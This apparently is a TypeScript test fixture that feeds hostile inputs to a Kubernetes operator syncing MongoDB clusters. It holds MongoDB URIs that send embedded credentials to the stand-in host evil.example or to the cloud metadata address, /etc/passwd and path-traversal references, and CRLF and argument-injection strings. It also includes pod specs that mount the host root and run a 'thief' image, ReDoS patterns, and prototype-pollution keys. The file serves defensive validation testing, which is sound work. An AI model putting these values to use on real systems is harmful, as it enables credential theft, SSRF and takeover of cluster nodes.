/** What a tenant may be that must not be told, written, or taken. */
export const tenantPassword = 'hunter2-of-the-tenant';

const credentials = `user:${tenantPassword}`;

/** Deep enough for what works by recursion, within what the API server takes. */
function levels(count: number): object {
  let value: object = { a: 1 };
  for (let level = 0; level < count; level++) value = { a: value };
  return value;
}

/** Connection strings, by what is wrong with them. */
export const hostileUris: Readonly<Record<string, string | Buffer>> = {
  oidc: `mongodb://evil.example/?authMechanism=MONGODB-OIDC&authMechanismProperties=ENVIRONMENT:k8s`,
  'ca-file': `mongodb://${credentials}@evil.example/?tls=true&tlsCAFile=/dev/zero`,
  'key-file': `mongodb://${credentials}@evil.example/?tlsCertificateKeyFile=/etc/passwd`,
  proxy: `mongodb://${credentials}@evil.example/?proxyHost=169.254.169.254&proxyPort=80`,
  srv: `mongodb+srv://${credentials}@evil.example/`,
  metadata: `mongodb://${credentials}@169.254.169.254:80/`,
  'unescaped-at': `mongodb://user:pa@${tenantPassword}@host/`,
  'unescaped-slash': `mongodb://user:a/${tenantPassword}@host/`,
  'no-host': `mongodb://user:${tenantPassword}`,
  'no-uri': tenantPassword,
  binary: Buffer.from(Array.from({ length: 300 }, (_, index) => index % 256)),
  nul: `mongodb://${credentials}@host\u0000.example/`,
  newline: `mongodb://${credentials}@host/\r\nX-Injected: 1`,
  escape: `mongodb://${credentials}@\u001b[2J\u202ehost/`,
  'long-host': `mongodb://${credentials}@${'h'.repeat(600_000)}/`,
  long: 'a'.repeat(700_000),
  'many-options': `mongodb://${credentials}@host/?${'a=1&'.repeat(150_000)}`,
  'many-hosts': `mongodb://${'a,'.repeat(300_000)}b/`,
  'many-ats': `mongodb://${'@'.repeat(600_000)}`,
  address: `mongodb://${credentials}@[::1%25eth0]:99999/`,
};

/** Parts of specs, each for a ClusterSync of its own. */
export const hostileSpecs: Readonly<Record<string, object>> = {
  'pod-template': {
    syncer: {
      podTemplate: {
        spec: {
          automountServiceAccountToken: true,
          containers: [{ name: 'evil', image: 'evil.dev/a:1' }],
          initContainers: [{ name: 'before', image: 'evil.dev/a:1' }],
          volumes: [{ name: 'node', hostPath: { path: '/' } }],
        },
      },
    },
  },
  image: { syncer: { image: 'evil.example/thief:latest' } },
  'image-like-ours': { syncer: { image: 'example.dev/clustersync:test@evil.example/thief' } },
  affinity: { syncer: { affinity: levels(900) } },
  'wide-affinity': {
    syncer: {
      affinity: Object.fromEntries(Array.from({ length: 20_000 }, (_, at) => [`k${at}`, at])),
    },
  },
  'limits-below-requests': {
    syncer: { resources: { requests: { cpu: '2' }, limits: { cpu: '1' } } },
  },
  tolerations: { syncer: { tolerations: [{ operator: 'Exists', value: 'x' }] } },
  selector: { syncer: { nodeSelector: { ['x'.repeat(5_000)]: 'y'.repeat(100_000) } } },
  'pull-secrets': { syncer: { imagePullSecrets: [{ name: '../../kube-system/token' }] } },
  'foreign-secret': { source: { name: 'old', uriSecretRef: { name: 'victim/uri' } } },
  'foreign-key': {
    source: { name: 'old', uriSecretRef: { name: 'old-uri', key: '../../etc/passwd' } },
  },
  patterns: {
    includeNamespaces: Array.from({ length: 256 }, () => {
      return { databaseRegex: { pattern: '(a+)+$'.repeat(170) } };
    }),
  },
  workloads: {
    commit: {
      mode: 'Automatic',
      workloads: [
        { kind: 'Deployment', name: 'operator' },
        { kind: 'StatefulSet', name: 'victim/orders-syncer' },
        { kind: 'DaemonSet', name: 'kube-proxy' },
      ],
    },
  },
  'start-over': { startOver: { token: '\u0000\u001b[2J', destination: 'Clean' } },
  repair: { repair: { token: '\u0000\u001b[2J', comparison: 'Bytes' } },
  tls: { tls: { secretName: '../../../etc' } },
};

/** Metadata of ClusterSyncs, beside their names. */
export const hostileMetadata: Readonly<Record<string, object>> = {
  annotations: { annotations: { note: 'x'.repeat(250_000) } },
  prototype: { annotations: { __proto: '1', constructor: '2' }, labels: { constructor: 'x' } },
  finalizers: { finalizers: ['evil.example/never'] },
  managed: {
    labels: { 'app.kubernetes.io/managed-by': 'clustersync', 'app.kubernetes.io/name': 'operator' },
  },
};

/** Statuses that a tenant writes who may, beside the operator. */
export const hostileStatuses: Readonly<Record<string, object>> = {
  shards: {
    source: { kind: 'Sharded', shards: Array.from({ length: 3_000 }, (_, at) => `s${at}`) },
  },
  injected: {
    source: { kind: 'Sharded', shards: ['a,b', '--cluster0=mongodb://evil.example/', ''] },
  },
  conditions: {
    conditions: [
      {
        ...{ type: 'Ready', status: 'True', reason: 'Mine', message: 'x'.repeat(32_000) },
        lastTransitionTime: '9999-12-31T23:59:59Z',
      },
    ],
  },
  committed: { phase: 'Committed', committedAt: '1970-01-01T00:00:00Z' },
};

/** The names of what a test of names tries: the longest, and those that look like others. */
export const hostileNames: readonly string[] = [
  'a'.repeat(253),
  `${'a'.repeat(62)}.${'b'.repeat(63)}`,
  'a.syncer',
  '0',
  'constructor',
  'orders-syncer',
];
